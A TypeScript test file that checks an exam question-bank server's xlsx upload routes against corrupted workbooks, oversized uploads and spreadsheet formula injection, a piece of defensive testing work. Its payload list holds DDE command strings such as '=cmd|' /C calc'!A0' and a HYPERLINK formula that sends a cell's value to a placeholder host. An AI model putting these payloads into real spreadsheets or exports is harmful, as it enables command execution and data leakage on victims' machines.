/**
 * Hostile spreadsheets through the real API (R17): the xlsx upload routes (bank import dry run,
 * blueprint import, roster import) get random bytes, truncated and corrupted workbooks, zips that
 * are not workbooks, a body over the upload limit — each must be answered with a 4xx naming the
 * problem, never a 5xx, and the server keeps serving. The bank importer also gets workbooks with
 * the template on the wrong sheet, cells over the xlsx cell limit and formula injection
 * (`=cmd|' /C calc'!A0`, `+`, `-`, `@`, tab-led text, real formula cells): texts are kept as text,
 * formula cells without a value are row errors, and the bank export of the imported items contains
 * no formula cell (the export side of formula injection for reports and the HR export is in
 * export-formula-injection.test.ts).
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportTheoryBankXlsx, MAX_CELL_CHARACTERS, TEMPLATE_HEADERS, type TheoryItem } from '@skillcert/bank-tools';
import { startTestApp, type SignedInAgent, type TestApp } from '../helpers/app';

let app: TestApp;
let editor: SignedInAgent;
let planner: SignedInAgent;
let scopeId: string;
let batchId: string;

/** The hostile texts of the formula-injection cases (OWASP CSV injection and DDE payloads). */
const formulaTexts = [
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
];

function uploadBank(agent: SignedInAgent, fileName: string, bytes: Buffer) {
  return agent.post(`/api/bank/scopes/${scopeId}/imports`).set('Content-Type', 'application/octet-stream').set('X-File-Name', encodeURIComponent(fileName)).send(bytes);
}

function uploadBlueprint(agent: SignedInAgent, fileName: string, bytes: Buffer) {
  return agent.post(`/api/bank/scopes/${scopeId}/blueprint/import`).set('Content-Type', 'application/octet-stream').set('X-File-Name', encodeURIComponent(fileName)).send(bytes);
}

function uploadRoster(agent: SignedInAgent, fileName: string, bytes: Buffer) {
  return agent
    .post(`/api/batches/${batchId}/roster`)
    .query({ file: fileName })
    .set('Content-Type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    .send(bytes);
}

/** supertest parser keeping a binary body as a Buffer. */
const binaryParser: Parameters<ReturnType<SignedInAgent['post']>['parse']>[0] = (response, callback) => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => callback(null, Buffer.concat(chunks)));
};

function theoryItem(index: number, overrides: Partial<TheoryItem> = {}): TheoryItem {
  return { kind: 'theory', type: 'single', stem: `安全用电第${index}题：下列哪一项正确？`, options: ['选项甲', '选项乙', '选项丙', '选项丁'], answer: [index % 4], ...overrides };
}

/** A valid template workbook of `count` items (bank-tools' own exporter, so the layout is right). */
async function templateWorkbook(items: TheoryItem[]): Promise<Buffer> {
  return Buffer.from(await exportTheoryBankXlsx(items));
}

/** Loads xlsx bytes, lets `edit` change the first sheet, writes it again. */
async function editWorkbook(bytes: Buffer, edit: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  edit(workbook.worksheets[0], workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

beforeAll(async () => {
  app = await startTestApp();
  editor = await app.login('bank_editor');
  planner = await app.login('exam_admin');
  const scope = await editor.post('/api/bank/scopes').send({ occupationCode: '6-31-01-03', occupationName: '电工', workType: '维修电工', level: 4 });
  expect(scope.status, JSON.stringify(scope.body)).toBe(201);
  scopeId = scope.body.id;
  const batch = await planner.post('/api/batches').send({ code: '2026-恶意-01', name: '恶意文件', mode: 'promotion', scopes: [{ scopeId, weights: { theory: 0.3, practical: 0.7 } }] });
  expect(batch.status, JSON.stringify(batch.body)).toBe(201);
  batchId = batch.body.id;
}, 120_000);

afterAll(async () => {
  await app?.stop();
});

describe('xlsx upload routes under hostile files', () => {
  it('R17: answer random bytes, truncated and corrupted workbooks with a clear 4xx error, never 5xx', { timeout: 180_000 }, async () => {
    const valid = await templateWorkbook(Array.from({ length: 20 }, (_, index) => theoryItem(index)));
    const hostileFile = fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 4096 }).map((bytes) => Buffer.from(bytes)),
      fc.uint8Array({ maxLength: 2048 }).map((bytes) => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(bytes)])),
      fc.integer({ min: 1, max: valid.length - 1 }).map((length) => valid.subarray(0, length)),
      fc.array(fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => {
        const copy = Buffer.from(valid);
        for (const [position, byte] of flips) copy[position] = byte;
        return copy;
      }),
      fc.constant(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0])),
    );
    const routes = [
      { name: 'bank import', upload: (bytes: Buffer) => uploadBank(editor, '恶意文件.xlsx', bytes) },
      { name: 'blueprint import', upload: (bytes: Buffer) => uploadBlueprint(editor, '恶意细目表.xlsx', bytes) },
      { name: 'roster import', upload: (bytes: Buffer) => uploadRoster(planner, '恶意名册.xlsx', bytes) },
    ];
    const unclear: string[] = [];
    await fc.assert(
      fc.asyncProperty(hostileFile, fc.constantFrom(...routes), async (bytes, route) => {
        const response = await route.upload(bytes);
        const isClear =
          response.status < 500 &&
          (response.status < 300 || (typeof response.body?.error?.message === 'string' && response.body.error.message.length > 0 && response.body.error.code !== 'internal'));
        if (!isClear && unclear.length < 10) unclear.push(`${route.name} (${bytes.length} bytes): ${response.status} ${JSON.stringify(response.body)}`);
      }),
      { numRuns: 60 },
    );
    expect(unclear).toEqual([]);
    const health = await app.agent.get('/api/health');
    expect(health.status).toBe(200);
  });

  it('R17: refuses zips that are not workbooks with a message naming the file', async () => {
    const plain = new JSZip();
    plain.file('readme.txt', '这不是工作簿');
    const broken = new JSZip();
    broken.file('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
    broken.file('xl/workbook.xml', '<workbook><sheets><sheet name="题库" sheetId="1" r:id="rId1"/></sheets>');
    for (const zip of [plain, broken]) {
      const bytes = await zip.generateAsync({ type: 'nodebuffer' });
      const response = await uploadBank(editor, '压缩包.xlsx', bytes);
      expect(response.status, JSON.stringify(response.body)).toBe(400);
      expect(response.body.error.message).toContain('压缩包.xlsx');
    }
  });

  it('R17: refuses a body over the upload limit with 400 before reading it', async () => {
    const response = await uploadBank(editor, '巨大.xlsx', Buffer.alloc(31 * 1024 * 1024, 0x41));
    expect(response.status).toBe(400);
    expect(response.body.error).toMatchObject({ code: 'validation_failed', message: expect.stringMatching(/exceeds/) });
  });

  it('R1: finds the template on the second sheet, reports the first as having no header, and refuses a workbook without the template naming its sheets', async () => {
    const template = new ExcelJS.Workbook();
    await template.xlsx.load((await templateWorkbook([theoryItem(1), theoryItem(2)])) as unknown as ExcelJS.Buffer);
    const twoSheets = new ExcelJS.Workbook();
    const notes = twoSheets.addWorksheet('说明');
    notes.addRow(['请勿修改', '试题', '答案？']);
    notes.addRow(['=1+1', '+cmd', '@x']);
    const bank = twoSheets.addWorksheet('题库');
    template.worksheets[0].eachRow((row) => bank.addRow((row.values as ExcelJS.CellValue[]).slice(1)));
    const secondSheet = Buffer.from(await twoSheets.xlsx.writeBuffer());
    const imported = await uploadBank(editor, '两张表.xlsx', secondSheet);
    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
    expect(imported.body.counts.total).toBe(2);
    expect(imported.body.sheets).toEqual([expect.objectContaining({ name: '说明', status: 'no-header' }), expect.objectContaining({ name: '题库', status: 'imported', items: 2 })]);

    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Sheet1').addRow(['序号', '问题', '选项', '正确答案']);
    workbook.addWorksheet('Sheet2').addRow(['=cmd|\' /C calc\'!A0']);
    const wrong = await uploadBank(editor, '错表.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(wrong.status, JSON.stringify(wrong.body)).toBe(400);
    expect(wrong.body.error.message).toMatch(/错表\.xlsx.*试题类型.*Sheet1.*Sheet2/);
  });

  it('R17: reports cells over the xlsx cell limit as row errors naming row and column, importing nothing of them', async () => {
    const bytes = await editWorkbook(await templateWorkbook([theoryItem(1), theoryItem(2), theoryItem(3)]), (sheet) => {
      sheet.getCell(2, TEMPLATE_HEADERS.indexOf('题目内容') + 1).value = '超'.repeat(MAX_CELL_CHARACTERS + 1);
      sheet.getCell(3, TEMPLATE_HEADERS.indexOf('题目选项') + 1).value = `A.${'长'.repeat(MAX_CELL_CHARACTERS + 10)}**B.短`;
    });
    const response = await uploadBank(editor, '超长.xlsx', bytes);
    expect(response.status, JSON.stringify(response.body).slice(0, 500)).toBe(201);
    expect(response.body.canConfirm).toBe(false);
    expect(response.body.counts.total).toBe(1);
    const rows = (response.body.rejected as { row: number; column: string; reason: string }[]).map((row) => `${row.row} ${row.column.split(' ')[0]}`).sort();
    expect(rows).toEqual(['2 D', '3 E']);
  });

  it("R17: keeps formula-like texts as text, rejects formula cells without a value, and exports the bank with no formula cell", { timeout: 60_000 }, async () => {
    // The importer trims cells, so the tab-led text arrives as `=1+1`: still formula-like.
    const hostile = formulaTexts.map((text) => text.trim());
    const items = hostile.map((text, index) =>
      index % 2 === 0 ? theoryItem(index, { stem: text }) : theoryItem(index, { options: [text, '选项乙', `=${index}+1`, '@选项丁'] }),
    );
    const bytes = await editWorkbook(await templateWorkbook([...items, theoryItem(99)]), (sheet) => {
      // A real formula cell (no cached value) where the last stem belongs.
      sheet.getCell(formulaTexts.length + 2, TEMPLATE_HEADERS.indexOf('题目内容') + 1).value = { formula: "cmd|' /C calc'!A0" } as ExcelJS.CellFormulaValue;
    });
    const dryRun = await uploadBank(editor, '注入.xlsx', bytes);
    expect(dryRun.status, JSON.stringify(dryRun.body).slice(0, 500)).toBe(201);
    expect(dryRun.body.counts.total).toBe(formulaTexts.length);
    expect(dryRun.body.rejected).toEqual([expect.objectContaining({ row: formulaTexts.length + 2, reason: expect.stringMatching(/formula/) })]);

    // Import the kept rows: the hostile text must survive unchanged (nothing evaluated, nothing lost).
    const clean = await uploadBank(editor, '注入-可导入.xlsx', await templateWorkbook(items));
    const confirmed = await editor.post(`/api/bank/scopes/${scopeId}/imports/${clean.body.importId}/confirm`).send({});
    expect(confirmed.status, JSON.stringify(confirmed.body)).toBe(200);
    const listed = await editor.get(`/api/bank/items?scopeId=${scopeId}&limit=100`);
    const stems = new Set((listed.body.items as { content: { stem: string } }[]).map((item) => item.content.stem));
    for (const text of hostile.filter((_, index) => index % 2 === 0)) expect(stems).toContain(text);

    const exported = await editor.post(`/api/bank/scopes/${scopeId}/export`).send({ format: 'xlsx', reason: '安全测试', statuses: ['draft'] }).buffer(true).parse(binaryParser);
    expect(exported.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported.body as unknown as ExcelJS.Buffer);
    const activeCells: string[] = [];
    const texts: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink) activeCells.push(cell.address);
          if (cell.type === ExcelJS.ValueType.String) texts.push(String(cell.value));
          if (cell.type === ExcelJS.ValueType.String && /^[=+\-@\t\r]/.test(String(cell.value)) && cell.numFmt !== '@') activeCells.push(`${cell.address} (not Text format)`);
        }),
      ),
    );
    expect(activeCells).toEqual([]);
    expect(texts.some((text) => text.includes("=cmd|' /C calc'!A0"))).toBe(true);
  });
});
